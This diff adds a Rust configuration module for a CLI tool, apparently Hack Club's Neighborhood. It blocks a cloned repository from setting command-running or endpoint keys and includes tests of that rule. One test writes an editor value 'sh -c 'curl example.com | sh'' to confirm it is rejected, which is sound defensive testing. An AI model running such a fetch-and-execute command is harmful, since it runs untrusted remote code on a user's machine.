@@ -0,0 +1,502 @@
+//! Layered configuration
+//!
+//! Values are looked up in the following order, with the first one found being used:
+//! 1. Flags
+//! 2. Environment variables
+//! 3. The repository config, `.neighborhood.toml` in the current directory or any of its parents
+//! 4. The user config, `config.toml` in the config directory
+//! 5. Defaults
+
+use {
+    crate::{MainError, autofill, env},
+    serde::{Deserialize, Serialize},
+    std::{
+        borrow::Cow,
+        collections::BTreeMap,
+        ffi::{CStr, CString, OsStr},
+        fmt::{self, Display, Formatter},
+        fs,
+        path::{Path, PathBuf},
+        sync::LazyLock,
+    },
+    toml_edit::{DocumentMut, Item, TomlError},
+};
+
+pub static USER: LazyLock<Option<PathBuf>> = LazyLock::new(|| {
+    dirs::config_dir().map(|mut root| {
+        root.push(crate::NAME);
+        root.push("config.toml");
+        root
+    })
+});
+pub const REPO_FILE_NAME: &str = ".neighborhood.toml";
+
+/// Every key that can be set, alongside a description.
+pub const KEYS: &[(&str, &str)] = &[
+    (
+        "editor",
+        "The editor used for editing forms, which may include arguments such as `code --wait`. Overridden by `VISUAL` and `EDITOR`",
+    ),
+    ("editor-args", "An array of arguments passed to the editor"),
+    (
+        "no-confirm",
+        "Disable prompts, answering yes to them all. Overridden by `NEIGHBORHOOD_NO_CONFIRM`",
+    ),
+    (
+        "redact-history",
+        "Redact personal information from the local history of shipped releases",
+    ),
+    (
+        "vars",
+        "A table of variables that `{{ name }}` in release forms is replaced with, set one with `vars.<name>`. Overridden by `NEIGHBORHOOD_VAR_<NAME>`",
+    ),
+    (
+        "encryption.enable",
+        "Encrypt cached files holding personal information, such as release forms, with a passphrase. Overridden by `NEIGHBORHOOD_ENCRYPT`",
+    ),
+    (
+        "encryption.key-file",
+        "A file whose contents are used instead of a passphrase. Overridden by `NEIGHBORHOOD_KEY_FILE`",
+    ),
+    (
+        "endpoints.api",
+        "The url of the neighborhood api. Overridden by `NEIGHBORHOOD_API_URL`",
+    ),
+    (
+        "endpoints.upload",
+        "The url of the upload server. Overridden by `NEIGHBORHOOD_UPLOAD_URL`",
+    ),
+];
+
+/// Keys that can only be set in the user config, as they run commands, read files or choose where
+/// the token is sent, which a cloned repository should not be able to do.
+pub const USER_KEYS: &[&str] = &[
+    "editor",
+    "editor-args",
+    "encryption.key-file",
+    "endpoints.api",
+    "endpoints.upload",
+];
+
+/// The prefix of environment variables that fill in `{{ name }}` in release forms.
+const VAR_PREFIX: &str = "NEIGHBORHOOD_VAR_";
+
+const DEFAULT_API: &str = "https://neighborhood.hackclub.com";
+const DEFAULT_UPLOAD: &str = "https://express.neighborhood.hackclub.com";
+
+/// Parse a key given on the command line, which is either one of [KEYS] or `vars.<name>`.
+pub fn parse_key(key: &str) -> Result<String, String> {
+    let var = key.strip_prefix("vars.").is_some_and(|name| {
+        !name.is_empty()
+            && name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+    });
+
+    if var || KEYS.iter().any(|(name, _)| *name == key) {
+        Ok(key.to_string())
+    } else {
+        Err(format!(
+            "expected `vars.<name>` or one of {}",
+            KEYS.iter()
+                .map(|(key, _)| format!("`{key}`"))
+                .collect::<Vec<_>>()
+                .join(", ")
+        ))
+    }
+}
+
+/// Find the repository config in the current directory or any of its parents.
+pub fn find_repo() -> Option<PathBuf> {
+    std::env::current_dir().ok().and_then(|dir| {
+        dir.ancestors()
+            .map(|dir| dir.join(REPO_FILE_NAME))
+            .find(|path| path.is_file())
+    })
+}
+
+/// The root of the project being worked on, which relative paths in forms are resolved against.
+///
+/// This is the directory of the repository config, falling back to the git work tree and then the
+/// current directory.
+pub static PROJECT_DIR: LazyLock<PathBuf> = LazyLock::new(|| {
+    find_repo()
+        .and_then(|path| path.parent().map(Path::to_path_buf))
+        .or_else(|| autofill::git(["rev-parse", "--show-toplevel"]).map(PathBuf::from))
+        .or_else(|| std::env::current_dir().ok())
+        .unwrap_or_default()
+});
+
+#[derive(Default, Deserialize, Serialize)]
+#[serde(rename_all = "kebab-case", deny_unknown_fields)]
+pub struct Endpoints {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    api: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    upload: Option<String>,
+}
+
+#[derive(Default, Deserialize, Serialize)]
+#[serde(rename_all = "kebab-case", deny_unknown_fields)]
+pub struct Encryption {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    enable: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    key_file: Option<PathBuf>,
+}
+
+/// A single layer of configuration.
+#[derive(Default, Deserialize, Serialize)]
+#[serde(rename_all = "kebab-case", deny_unknown_fields)]
+pub struct Settings {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    editor: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    editor_args: Option<Vec<String>>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    no_confirm: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    redact_history: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    vars: Option<BTreeMap<String, String>>,
+    #[serde(default)]
+    encryption: Encryption,
+    #[serde(default)]
+    endpoints: Endpoints,
+}
+impl Settings {
+    fn read(path: &Path, repo: bool) -> Result<Self, MainError> {
+        fs::read_to_string(path)
+            .map_err(|error| MainError::ReadFile(error, Cow::Owned(path.to_path_buf())))
+            .and_then(|contents| {
+                toml_edit::de::from_str::<Self>(&contents).map_err(|error| {
+                    MainError::ParseConfig(TomlError::from(error), Cow::Owned(path.to_path_buf()))
+                })
+            })
+            .and_then(|settings| match repo {
+                true => settings.check_repo(path).map(|_| settings),
+                false => Ok(settings),
+            })
+    }
+
+    /// Check that none of the [USER_KEYS] are set in the repository config at `path`.
+    fn check_repo(&self, path: &Path) -> Result<(), MainError> {
+        let document = toml_edit::ser::to_document(self).expect("settings should serialize");
+        USER_KEYS
+            .iter()
+            .find(|key| get(document.as_item(), key).is_some())
+            .map_or(Ok(()), |key| {
+                Err(MainError::UserConfigKey(
+                    key.to_string(),
+                    Cow::Owned(path.to_path_buf()),
+                ))
+            })
+    }
+
+    fn from_env() -> Self {
+        fn var(var: &CStr) -> Option<String> {
+            // SAFETY: the config is loaded before any other threads are spawned
+            unsafe { env::var(var) }
+                .and_then(|var| var.to_str())
+                .filter(|var| !var.is_empty())
+                .map(String::from)
+        }
+
+        fn bool(name: &CStr) -> Option<bool> {
+            var(name).and_then(|value| match value.to_lowercase().as_str() {
+                "1" | "true" | "yes" => Some(true),
+                "0" | "false" | "no" => Some(false),
+                _ => {
+                    log::warn!(
+                        "ignoring invalid value `{value}` for `{}`",
+                        name.to_string_lossy()
+                    );
+                    None
+                }
+            })
+        }
+
+        Self {
+            editor: var(c"VISUAL").or_else(|| var(c"EDITOR")),
+            editor_args: None,
+            no_confirm: bool(c"NEIGHBORHOOD_NO_CONFIRM"),
+            redact_history: None,
+            vars: None,
+            encryption: Encryption {
+                enable: bool(c"NEIGHBORHOOD_ENCRYPT"),
+                key_file: var(c"NEIGHBORHOOD_KEY_FILE").map(PathBuf::from),
+            },
+            endpoints: Endpoints {
+                api: var(c"NEIGHBORHOOD_API_URL"),
+                upload: var(c"NEIGHBORHOOD_UPLOAD_URL"),
+            },
+        }
+    }
+}
+
+pub enum Source {
+    Env,
+    File(PathBuf),
+    Default,
+}
+impl Display for Source {
+    fn fmt(&self, f: &mut Formatter<'_>) -> Result<(), fmt::Error> {
+        match self {
+            Self::Env => f.write_str("environment"),
+            Self::File(path) => write!(f, "{}", path.display()),
+            Self::Default => f.write_str("default"),
+        }
+    }
+}
+
+#[derive(Default)]
+pub struct Config {
+    /// Ordered from highest to lowest precedence.
+    layers: Vec<(Source, Settings)>,
+}
+impl Config {
+    pub fn load() -> Result<Self, MainError> {
+        Self::load_with(|path, repo| Settings::read(path, repo).map(Some))
+    }
+
+    /// Load the config, skipping files that cannot be read with a warning, so that the commands
+    /// used to fix them keep working.
+    pub fn load_lenient() -> Self {
+        Self::load_with(|path, repo| {
+            Ok(Settings::read(path, repo)
+                .inspect_err(|error| {
+                    log::warn!("ignoring a config that could not be read: {error}")
+                })
+                .ok())
+        })
+        .expect("config files should be skipped instead of failing")
+    }
+
+    fn load_with<F>(read: F) -> Result<Self, MainError>
+    where
+        F: Fn(&Path, bool) -> Result<Option<Settings>, MainError>,
+    {
+        let mut layers = vec![(Source::Env, Settings::from_env())];
+        for (path, repo) in [(find_repo(), true), (USER.clone(), false)]
+            .into_iter()
+            .filter_map(|(path, repo)| path.filter(|path| path.is_file()).map(|path| (path, repo)))
+        {
+            if let Some(settings) = read(&path, repo)? {
+                layers.push((Source::File(path), settings));
+            }
+        }
+        layers.push((
+            Source::Default,
+            Settings {
+                endpoints: Endpoints {
+                    api: Some(DEFAULT_API.to_string()),
+                    upload: Some(DEFAULT_UPLOAD.to_string()),
+                },
+                ..Default::default()
+            },
+        ));
+
+        Ok(Self { layers })
+    }
+
+    fn find<'a, T, F>(&'a self, f: F) -> Option<&'a T>
+    where
+        F: Fn(&'a Settings) -> Option<&'a T>,
+        T: ?Sized,
+    {
+        self.layers.iter().find_map(|(_, settings)| f(settings))
+    }
+
+    pub fn editor(&self) -> Option<&str> {
+        self.find(|settings| settings.editor.as_deref())
+    }
+    pub fn editor_args(&self) -> &[String] {
+        self.find(|settings| settings.editor_args.as_deref())
+            .unwrap_or_default()
+    }
+    pub fn no_confirm(&self) -> bool {
+        self.find(|settings| settings.no_confirm.as_ref())
+            .copied()
+            .unwrap_or_default()
+    }
+    pub fn redact_history(&self) -> bool {
+        self.find(|settings| settings.redact_history.as_ref())
+            .copied()
+            .unwrap_or_default()
+    }
+    /// Look up a variable of the release form, which can be set in any layer and is merged by name.
+    ///
+    /// Only `NEIGHBORHOOD_VAR_<NAME>` is read from the environment, so that a form cannot read
+    /// other environment variables.
+    pub fn var(&self, name: &str) -> Option<String> {
+        CString::new(format!(
+            "{VAR_PREFIX}{}",
+            name.to_uppercase().replace('-', "_")
+        ))
+        .ok()
+        // SAFETY: the environment is never modified
+        .and_then(|var| unsafe { env::var(&var) })
+        .and_then(OsStr::to_str)
+        .map(String::from)
+        .or_else(|| {
+            self.find(|settings| settings.vars.as_ref().and_then(|vars| vars.get(name)))
+                .cloned()
+        })
+    }
+    pub fn encrypt(&self) -> bool {
+        self.find(|settings| settings.encryption.enable.as_ref())
+            .copied()
+            .unwrap_or_default()
+    }
+    pub fn key_file(&self) -> Option<&Path> {
+        self.find(|settings| settings.encryption.key_file.as_deref())
+    }
+    pub fn api(&self) -> &str {
+        self.find(|settings| settings.endpoints.api.as_deref())
+            .unwrap_or(DEFAULT_API)
+            .trim_end_matches('/')
+    }
+    pub fn upload(&self) -> &str {
+        self.find(|settings| settings.endpoints.upload.as_deref())
+            .unwrap_or(DEFAULT_UPLOAD)
+            .trim_end_matches('/')
+    }
+
+    /// Get the value of a dotted key alongside where it was set.
+    pub fn get(&self, key: &str) -> Option<(Item, &Source)> {
+        self.layers.iter().find_map(|(source, settings)| {
+            toml_edit::ser::to_document(settings)
+                .ok()
+                .and_then(|document| get(document.as_item(), key).cloned())
+                .map(|item| (item, source))
+        })
+    }
+}
+
+#[cfg(test)]
+impl Config {
+    /// A config sending every request to `url`.
+    pub fn with_endpoints(url: &str) -> Self {
+        Self {
+            layers: vec![(
+                Source::Default,
+                Settings {
+                    endpoints: Endpoints {
+                        api: Some(url.to_string()),
+                        upload: Some(url.to_string()),
+                    },
+                    ..Default::default()
+                },
+            )],
+        }
+    }
+}
+
+pub fn get<'a>(item: &'a Item, key: &str) -> Option<&'a Item> {
+    key.split('.')
+        .try_fold(item, |item, key| item.get(key))
+        .filter(|item| !item.is_none())
+}
+
+/// Set a dotted key in the config file at `path`, creating it if it does not exist.
+///
+/// [USER_KEYS] are refused if `path` is a repository config.
+pub fn set(path: &Path, key: &str, value: &str, repo: bool) -> Result<(), MainError> {
+    let mut document = if path.is_file() {
+        fs::read_to_string(path)
+            .map_err(|error| MainError::ReadFile(error, Cow::Owned(path.to_path_buf())))?
+            .parse::<DocumentMut>()
+            .map_err(|error| MainError::ParseConfig(error, Cow::Owned(path.to_path_buf())))?
+    } else {
+        DocumentMut::new()
+    };
+
+    let value = value
+        .parse::<toml_edit::Value>()
+        .unwrap_or_else(|_| toml_edit::Value::from(value));
+    let (parents, key) = key.rsplit_once('.').unwrap_or(("", key));
+    let table = parents
+        .split('.')
+        .filter(|parent| !parent.is_empty())
+        .try_fold(document.as_table_mut(), |table, parent| {
+            table
+                .entry(parent)
+                .or_insert(toml_edit::table())
+                .as_table_mut()
+        })
+        .ok_or_else(|| MainError::UnknownConfigKey(key.to_string()))?;
+    table.insert(key, toml_edit::value(value));
+
+    let settings = toml_edit::de::from_document::<Settings>(document.clone()).map_err(|error| {
+        MainError::ParseConfig(TomlError::from(error), Cow::Owned(path.to_path_buf()))
+    })?;
+    if repo {
+        settings.check_repo(path)?;
+    }
+
+    if let Some(parent) = path.parent().filter(|parent| !parent.is_dir()) {
+        fs::create_dir_all(parent).map_err(|error| {
+            MainError::CreateParentDirectory(error, Cow::Owned(path.to_path_buf()))
+        })?;
+    }
+    fs::write(path, document.to_string())
+        .map_err(|error| MainError::WriteFile(error, Cow::Owned(path.to_path_buf())))
+}
+
+#[cfg(test)]
+mod tests {
+    use {super::*, tempfile::tempdir};
+
+    #[test]
+    fn set_keys() {
+        let dir = tempdir().unwrap();
+        let path = dir.path().join(REPO_FILE_NAME);
+        fs::write(&path, "# shared defaults\neditor = \"vi\"\n").unwrap();
+
+        set(&path, "endpoints.api", "http://localhost:3000", false).unwrap();
+        set(&path, "editor-args", r#"["-w"]"#, false).unwrap();
+        set(&path, "vars.team", "Hack Club", false).unwrap();
+        assert!(matches!(
+            set(&path, "no-confirm", "maybe", false),
+            Err(MainError::ParseConfig(..))
+        ));
+
+        assert_eq!(
+            fs::read_to_string(&path).unwrap(),
+            "# shared defaults\neditor = \"vi\"\neditor-args = [\"-w\"]\n\n[endpoints]\napi = \"http://localhost:3000\"\n\n[vars]\nteam = \"Hack Club\"\n"
+        );
+        assert!(parse_key("vars.team").is_ok());
+        assert!(parse_key("vars.").is_err());
+        assert!(parse_key("vars.a.b").is_err());
+        assert!(parse_key("endpoint.api").is_err());
+    }
+
+    #[test]
+    fn repo_keys() {
+        let dir = tempdir().unwrap();
+        let path = dir.path().join(REPO_FILE_NAME);
+
+        set(&path, "no-confirm", "true", true).unwrap();
+        assert!(Settings::read(&path, true).is_ok());
+        assert!(matches!(
+            set(&path, "endpoints.api", "https://example.com", true),
+            Err(MainError::UserConfigKey(..))
+        ));
+        assert!(matches!(
+            set(
+                &path,
+                "endpoints",
+                r#"{ api = "https://example.com" }"#,
+                true
+            ),
+            Err(MainError::UserConfigKey(..))
+        ));
+
+        fs::write(&path, "editor = \"sh -c 'curl example.com | sh'\"\n").unwrap();
+        assert!(matches!(
+            Settings::read(&path, true),
+            Err(MainError::UserConfigKey(key, _)) if key == "editor"
+        ));
+        assert!(Settings::read(&path, false).is_ok());
+    }
+}